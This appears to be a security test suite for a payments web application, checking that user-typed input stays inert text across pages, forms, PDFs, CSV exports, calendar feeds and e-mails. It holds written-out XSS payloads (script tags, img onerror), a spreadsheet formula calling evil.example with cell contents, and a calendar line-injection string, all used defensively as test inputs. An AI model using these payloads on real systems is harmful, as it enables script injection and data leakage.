// Whatever people type stays text: on every page that shows it, on paper, in lists for spreadsheets, in calendars and
// in e-mails. Each field that anybody can fill in holds markup, and a formula where a list has it.

import assert from 'node:assert/strict';
import { test } from 'node:test';
import { getDocumentProxy } from 'unpdf';
import { STAFF, Visitor, world } from '../harness/index.mjs';
import { pdfText } from '../journeys/pdf.mjs';
import { crawl, kindOf } from './crawl.mjs';
import { formsOf } from './forms.mjs';
import { all, api, confirmed, day, newCustomer, newObligation, paid } from './records.mjs';

const PHONE = '0798000555';
const MARK = 'window.hacked=1';
const evil = (where) => `<img src=x onerror=${MARK}>${where}"'><script>${MARK}</script>`;
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Refund")';
// What a page must not hold: a tag that somebody typed.
const RAW = /<img src=x|<script>window|<script[^>]*>window|<b onclick/i;

let staff;
let customer;
let account;
let ids;

const { host, browser } = world({
  async prepare(host) {
    const mrema = await newCustomer(host, { name: evil('name').slice(0, 120), phones: [PHONE], emails: ['mrema@example.com'] });
    account = mrema.account_number;
    ids = await typedByStaff(host);
    await typedByPayers(host);
    customer = await enters(host, '/sign-in', PHONE);
    staff = await enters(host, '/staff/sign-in', STAFF.administrator);
    await customer.post('/missing-payment', { message: 'UK99Q4H7ZX', once: crypto.randomUUID() });
    await customer.post('/calendar/feed');
  },
});

// The browser calls itself something, and that is kept with the session.
const DEVICE = { 'user-agent': evil('device') };

async function enters(host, door, contact) {
  const visitor = new Visitor(host.address);
  const before = await host.newest();
  await visitor.post(door, { contact, next: '' });
  const code = await host.code(before, contact);
  const entered = await visitor.post(`${door}/code`, { code, next: '' }, DEVICE);
  if (door === '/staff/sign-in') {
    await visitor.post(entered.headers.location, { code: await host.authenticator(contact) }, DEVICE);
  }
  return visitor;
}

async function typedByStaff(host) {
  const post = (path, body) => api(host, path, { method: 'POST', body });
  const later = await day(host, 20);
  const institution = { kind: 'institution', name: evil('to').slice(0, 80) };
  const schedule = { kind: 'one_off', due_on: later };
  const owed = await newObligation(host, {
    customer: account, description: evil('obligation'), manager_comments: evil('comments'), amount: '900', payee: institution,
    schedule,
  });
  await newObligation(host, { customer: account, description: FORMULA, amount: '100', schedule });
  const lines = '\\nATTENDEE:mailto:evil@example.com;X=1,2';
  await newObligation(host, { customer: account, description: lines, amount: '50', schedule });
  const cash = await post('/payments', {
    customer: account, amount: '70', method: 'cash', reference: evil('reference').slice(0, 60), till: evil('till'),
    remark: evil('remark'),
  });
  await post('/holidays', { date: await day(host, 9), name: evil('holiday').slice(0, 60) });
  const member = await post('/staff', { email: 'evil@office.example.com', name: evil('staff').slice(0, 80), role: 'auditor' });
  await post('/api-keys', { name: evil('key').slice(0, 60), role: 'auditor' });
  return { obligation: owed.id, cash: cash.id, member: member.id };
}

async function typedByPayers(host) {
  const own = await paid(host, { reference: account, amount: 300, name: evil('payer') });
  await paid(host, { reference: account, amount: 20, name: FORMULA });
  const stray = await paid(host, { reference: evil('stray'), amount: 40, name: evil('payer') });
  await api(host, `/payments/${stray.id}/association`, { method: 'PUT', body: { customer: account, reason: evil('reason') } });
  await api(host, `/payments/${stray.id}/association?reason=${encodeURIComponent(evil('reason'))}`, { method: 'DELETE' });
  await confirmed(host, { reference: evil('stray'), amount: 41, name: evil('payer') });
  await host.hook('c2b/confirmation', `{"TransID": "${evil('parked').replace(/"/g, '\\"')}", "TransAmount": `);
  await host.advance('PT1S');
  Object.assign(ids, { own: own.id, stray: stray.id });
}

// Every page of both, with those that a long list could hide.
async function pages() {
  const of = (list) => list.map(([path, answer]) => ({ path, answer }));
  const starts = [
    `/staff/customers/${account}`, `/staff/payments/${ids.own}`, `/staff/payments/${ids.stray}`, `/staff/payments/${ids.cash}`,
    `/staff/obligations/${ids.obligation}`, '/staff/payments?show=unassociated', '/staff/audit',
    `/staff/settings/staff/${ids.member}`, '/staff',
  ];
  const reads = (visitor, found) => of([...found]).map((one) => ({ ...one, visitor }));
  return [...reads(staff, await crawl(staff, starts)), ...reads(customer, await crawl(customer, ['/']))];
}

test('what is typed is text on every page, and runs nowhere', { timeout: 150_000 }, async () => {
  const found = await pages();
  const html = found.filter(({ answer }) => answer.headers['content-type']?.startsWith('text/html'));
  for (const { path, answer } of html) assert.doesNotMatch(answer.text, RAW, path);
  const shown = new Map();
  for (const { path, answer, visitor } of html.filter(({ answer }) => answer.text.includes('hacked=1'))) {
    const kind = kindOf(path);
    if (!shown.has(kind)) shown.set(kind, { path, visitor });
  }
  const seen = await Promise.all([staff, customer].map((visitor) => {
    const paths = [...shown.values()].filter((one) => one.visitor === visitor).map((one) => one.path);
    return look(visitor, paths);
  }));
  const kinds = [...new Set(seen.flat().map(kindOf))].sort();
  console.log(`markup is shown as text on ${kinds.length} kinds of pages: ${kinds.join(' ')}`);
  assert.ok(kinds.length >= 20, 'pages that show it');
});

// In Chromium: no element came of it, nothing ran, and the content security policy had nothing to stop. Answers where it
// stood as text: a list of what waits may have become shorter meanwhile.
async function look(visitor, paths) {
  const context = await browser().context({ host: host(), session: visitor });
  context.setDefaultTimeout(30_000);
  const page = await context.newPage();
  const said = [];
  const seen = [];
  page.on('console', (message) => message.type() === 'error' && said.push(message.text()));
  page.on('pageerror', (error) => said.push(String(error)));
  page.on('dialog', (dialog) => { said.push(dialog.message()); dialog.dismiss(); });
  for (const path of paths) {
    await page.goto(path);
    const state = await page.evaluate(() => ({
      hacked: window.hacked,
      elements: document.querySelectorAll('img, script:not([src]), [onerror], [onclick], iframe').length,
      text: document.documentElement.outerHTML.includes('hacked=1'),
    }));
    const { text, ...came } = state;
    assert.deepEqual(came, { hacked: undefined, elements: 0 }, path);
    assert.deepEqual(said, [], path);
    if (text) seen.push(path);
  }
  await context.close();
  return seen;
}

const QUERIES = [
  'next', 'show', 'lang', 'done', 'after', 'month', 'from', 'customer', 'status', 'q', 'obligation', 'amount', 'subject',
];

test('what a form or an address sends back is text', async () => {
  const nobody = new Visitor(host().address);
  const forms = [
    [nobody, '/'], [nobody, '/sign-in'], [nobody, '/staff/sign-in'], [customer, '/pay'], [customer, '/missing-payment'],
    [staff, '/staff/payments'], [staff, '/staff/customers'], [staff, '/staff/payments/new'], [staff, '/staff/customers/new'],
    [staff, '/staff/obligations/new'], [staff, `/staff/customers/${account}/edit`], [staff, `/staff/customers/${account}/ask`],
    [staff, `/staff/obligations/${ids.obligation}/edit`], [staff, `/staff/obligations/${ids.obligation}/instalments/1`],
    [staff, `/staff/payments/${ids.own}/reallocate`],
  ];
  for (const [visitor, path] of forms) {
    for (const form of formsOf((await visitor.get(path)).text).filter((form) => form.method === 'post')) {
      const typed = form.fields.map(([name, value]) => [name, ['once', 'seen'].includes(name) ? value : evil(name)]);
      const fields = Object.fromEntries(typed);
      const answer = await visitor.post(form.action, fields);
      assert.ok(answer.status < 500, `${form.action}: ${answer.status}`);
      assert.doesNotMatch(answer.text, RAW, form.action);
    }
  }
  const READ = [
    [nobody, '/sign-in'], [customer, '/pay'], [customer, '/calendar'], [staff, '/staff/payments'],
    [staff, '/staff/obligations/new'], [staff, '/staff/audit'], [staff, '/staff/calendar'],
  ];
  for (const query of QUERIES) {
    const value = encodeURIComponent(evil(query));
    for (const [visitor, path] of READ) {
      const answer = await visitor.get(`${path}?${query}=${value}`);
      assert.ok(answer.status < 500, `${path}?${query}: ${answer.status}`);
      assert.doesNotMatch(answer.text, RAW, `${path}?${query}`);
    }
  }
});

test('on paper it is text, and the paper does nothing', async () => {
  const number = (await customer.get('/payments')).text.match(/href="\/payments\/(\d+)"/)[1];
  const papers = [
    [customer, `/payments/${number}/receipt.pdf`], [customer, '/statement.pdf'],
    [staff, `/staff/customers/${account}/statement.pdf`],
  ];
  for (const [visitor, path] of papers) {
    const { bytes, status } = await visitor.get(path);
    assert.equal(status, 200, path);
    const paper = await getDocumentProxy(new Uint8Array(bytes));
    assert.equal(await paper.hasJSActions(), false, path);
    assert.equal(await paper.getOpenAction(), null, path);
    assert.equal(await paper.getAttachments(), null, path);
    for (let page = 1; page <= paper.numPages; page += 1) {
      const links = await (await paper.getPage(page)).getAnnotations();
      for (const { url = '' } of links) assert.ok(url === '' || url.startsWith(`${host().address}/receipts/`), `${path}: ${url}`);
    }
    assert.match((await pdfText(bytes)).replace(/\s/g, ''), /onerror=window\.hacked=1/, path);
  }
});

test('in a list for spreadsheets no cell is a formula', async () => {
  const lists = [[customer, '/statement.csv'], [staff, `/staff/customers/${account}/statement.csv`], [staff, '/staff/audit.csv']];
  for (const [visitor, path] of lists) {
    const answer = await visitor.get(path);
    assert.equal(answer.status, 200, path);
    assert.match(answer.headers['content-type'], /^text\/csv/);
    assert.match(answer.headers['content-disposition'], /^attachment/);
    const cells = cellsOf(answer.text.slice(1));
    for (const cell of cells) {
      const isAmount = /^-?\d+(\.\d\d)?$/.test(cell);
      assert.ok(isAmount || !/^[\s"]*[=+\-@\t\r]/.test(cell), `${path}: ${cell}`);
    }
    assert.ok(cells.includes(`'${FORMULA}`) || path.includes('audit'), `${path} holds the formula as text`);
  }
});

function cellsOf(csv) {
  const found = [...csv.matchAll(/"((?:[^"]|"")*)"|([^,"\r\n]+)/g)];
  return found.map(([, quoted, plain]) => quoted?.replace(/""/g, '"') ?? plain);
}

test('in a calendar it is one line of text', async () => {
  const address = (await customer.get('/calendar')).text.match(/\/feeds\/[\w-]+\/calendar\.ics/)[0];
  const { text, headers } = await host().get(address);
  assert.match(headers['content-type'], /^text\/calendar/);
  const lines = text.split('\r\n');
  const whole = text.replace(/\r\n /g, '');
  assert.ok(lines.every((line) => !/^(ATTENDEE|ORGANIZER|ATTACH|URL)/.test(line)));
  assert.match(whole, /SUMMARY[^\r]*\\\\nATTENDEE:mailto:evil@example\.com\\;X=1\\,2/);
  assert.match(whole, /SUMMARY[^\r]*<img src=x onerror=window\.hacked=1>/);
});

test('in an e-mail it is text', async () => {
  const letters = (await host().mailbox(200)).filter((letter) => letter.to.includes('mrema@example.com') && letter.html);
  assert.ok(letters.length > 0);
  for (const { html, subject, headers } of letters) {
    assert.doesNotMatch(html, RAW);
    assert.doesNotMatch(`${subject}${JSON.stringify(headers)}`, /[\r\n]/);
  }
  assert.ok(letters.some(({ html }) => html.includes('hacked=1')), 'the name is in it');
});

test('what markup was typed is kept as it was typed', async () => {
  const [neat] = (await all(host(), '/customers')).filter((one) => one.account_number === account);
  assert.ok(neat.name.startsWith('<img src=x onerror=window.hacked=1>name'));
});
